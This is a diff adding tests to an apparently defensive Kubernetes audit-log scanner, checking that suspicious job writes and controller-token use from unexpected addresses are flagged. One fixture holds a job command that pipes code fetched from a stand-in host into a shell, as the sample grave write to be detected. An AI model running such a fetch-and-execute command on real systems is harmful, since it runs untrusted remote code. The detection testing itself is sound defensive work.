@@ -1,7 +1,11 @@
 import assert from 'node:assert/strict';
+import { mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { test } from 'node:test';
 import type { Finding } from '../model/finding.ts';
 import type { ScanOptions } from './scan.ts';
+import { openState } from './state/file.ts';
 import { scanning } from './testing/scanning.ts';
 import { withoutPlaces, workloadOf, writeOf } from './testing.ts';
 
@@ -27,6 +31,7 @@ interface Made {
   readonly agent?: string;
   readonly code?: number;
   readonly owned?: boolean;
+  readonly runs?: object;
 }
 
 const by = (
@@ -43,9 +48,9 @@ const auditID = (): string => `11111111-0000-4000-8000-${String(++requests).padS
 
 /** The run of a minute, as the CronJob controller makes it. */
 const tick = (made: Made): object => {
-  const { minute, name = `report-${HOUR + minute}`, owned = true } = made;
+  const { minute, name = `report-${HOUR + minute}`, owned = true, runs = spec } = made;
   const metadata = owned ? owners('CronJob', 'report') : {};
-  const body = workloadOf('Job', name, spec, metadata);
+  const body = workloadOf('Job', name, runs, metadata);
   const more = { ...by('cronjob-controller', made), auditID: auditID() };
   return writeOf({ minute, resource: 'jobs', apiGroup: 'batch', name, body, more });
 };
@@ -171,3 +176,137 @@ test('of many writes from elsewhere the first are findings, and each says how ma
     assert.match(says, /Such writes that came from there: 50\.$/);
   }
 });
+
+const THIEF = '192.0.2.66';
+const bad = { containers: [{ ...spec.containers[0], command: ['sh', '-c', 'curl -s http://198.51.100.7/a | sh'] }] };
+/** Fifty runs that say nothing, and then a grave one, from where no controller is. */
+const hidden = (): readonly object[] => [
+  ...Array.from({ length: 50 }, (_, index) =>
+    tick({ minute: 5 + index / 100, name: `report-${HOUR - 100 - index}`, from: THIEF }),
+  ),
+  tick({ minute: 6, name: `report-${HOUR - 200}`, from: THIEF, runs: bad }),
+];
+
+test('a grave write from elsewhere does not hide behind harmless ones, however the log is read', async () => {
+  const events = [...runsOf([1, 2]), ...hidden(), ...runsOf([7, 8])];
+  const grave = (findings: readonly Finding[]) =>
+    findings.filter(({ severity }) => severity === 'high' || severity === 'critical');
+  const plainly = await run(events);
+  assert.equal(plainly.length, 33);
+  assert.deepEqual(
+    grave(plainly).map(({ workload }) => workload.name),
+    [`report-${HOUR - 200}`],
+  );
+  const shown = plainly.map(withoutPlaces);
+  assert.deepEqual((await run([...events].reverse())).map(withoutPlaces), shown);
+  assert.deepEqual((await run(events, { strict: true })).map(withoutPlaces), shown);
+  const parts = { jobs: 2, partBytes: 1000, inlineBytes: 0 };
+  assert.deepEqual((await run(events, parts)).map(withoutPlaces), shown);
+  assert.deepEqual(
+    (await scanAll([events.slice(0, 40), events.slice(40)])).findings.filter(isLoud).map(withoutPlaces),
+    shown,
+  );
+  // Told twice it is told once.
+  assert.deepEqual((await scanAll([events, events])).findings.filter(isLoud).length, shown.length);
+});
+
+const isLoud = ({ severity }: Finding): boolean => severity !== 'info';
+
+test('what a state knows of controllers does not grow when a log is read again', async () => {
+  const folder = mkdtempSync(join(tmpdir(), 'cronwarden-controllers-'));
+  try {
+    const events = [...runsOf([1, 2]), ...hidden(), ...runsOf([7, 8])];
+    const once = async (of: readonly object[]) => {
+      const state = await openState(join(folder, 'one.state'));
+      const told = await scanAll([of], { minSeverity: 'low', state });
+      state.commit();
+      return told;
+    };
+    assert.equal((await once(events)).findings.length, 33);
+    for (const again of [await once(events), await once(events.slice(10, 60)), await once([tick({ minute: 9 })])]) {
+      assert.deepEqual(
+        again.findings.map(({ title }) => title),
+        [],
+      );
+      assert.ok(!again.summary.warnings.some((one) => one.includes('not judged')));
+    }
+  } finally {
+    rmSync(folder, { recursive: true });
+  }
+});
+
+test('what proves to be from elsewhere when its file is gone is counted, and said', async () => {
+  const folder = mkdtempSync(join(tmpdir(), 'cronwarden-controllers-'));
+  try {
+    const given: Finding[] = [];
+    let warnings: readonly string[] = [];
+    for (const events of [[...runsOf([1, 2]), ...hidden()], runsOf([7, 8])]) {
+      const state = await openState(join(folder, 'one.state'));
+      const told = await scanAll([events], { minSeverity: 'low', state });
+      state.commit();
+      given.push(...told.findings);
+      warnings = told.summary.warnings;
+    }
+    assert.equal(given.length, 32);
+    assert.ok(warnings.some((one) => one.startsWith("19 writes under controllers' names from elsewhere were counted")));
+  } finally {
+    rmSync(folder, { recursive: true });
+  }
+});
+
+/** The controller manager asks for the token of one of its controllers. */
+const manager = (minute: number, from: string): object =>
+  writeOf({
+    minute,
+    resource: 'serviceaccounts',
+    name: 'cronjob-controller',
+    namespace: 'kube-system',
+    body: { kind: 'TokenRequest', apiVersion: 'authentication.k8s.io/v1' },
+    more: {
+      ...by('cronjob-controller', { minute, from }),
+      user: { username: 'system:kube-controller-manager', groups: ['system:authenticated'] },
+      objectRef: {
+        resource: 'serviceaccounts',
+        subresource: 'token',
+        namespace: 'kube-system',
+        name: 'cronjob-controller',
+        apiVersion: 'v1',
+      },
+      auditID: auditID(),
+    },
+  });
+const away = Array.from({ length: 40 }, (_, index) => index + 1).filter((minute) => minute !== 20);
+const pair = (from: string): readonly object[] => runsOf([20], { from });
+
+const TOKENS: Readonly<Record<string, { readonly events: readonly object[]; readonly tells: readonly string[] }>> = {
+  "two controllers' tokens, where no controller manager is": {
+    events: [manager(0, '192.0.2.1'), ...runsOf(away), ...pair(THIEF)],
+    tells: [
+      `medium report-${HOUR + 20}: actor.controller-elsewhere`,
+      `medium report-${HOUR + 20}-abcde: actor.controller-elsewhere`,
+    ],
+  },
+  'another controller manager took over for a minute': {
+    events: [manager(0, '192.0.2.1'), ...runsOf(away), manager(19.5, '192.0.2.2'), ...pair('192.0.2.2')],
+    tells: [],
+  },
+  'the log holds no token requests, so that nobody can tell': {
+    events: [...runsOf(away), ...pair(THIEF)],
+    tells: [],
+  },
+  'the log holds none, and the controllers went on within seconds': {
+    events: [...runsOf([...away, 19.95, 20.1]), ...pair(THIEF)],
+    tells: [
+      `medium report-${HOUR + 20}: actor.controller-elsewhere`,
+      `medium report-${HOUR + 20}-abcde: actor.controller-elsewhere`,
+    ],
+  },
+};
+for (const [situation, { events, tells }] of Object.entries(TOKENS)) {
+  test(`${tells.length === 0 ? 'quiet' : 'told'}: ${situation}`, async () => {
+    assert.deepEqual(told(await run(events)), tells);
+    assert.deepEqual(told(await run([...events].reverse())), tells);
+    assert.deepEqual(told(await run(events, { strict: true })), tells);
+    assert.deepEqual(told(await run(events, { jobs: 2, partBytes: 1000, inlineBytes: 0 })), tells);
+  });
+}
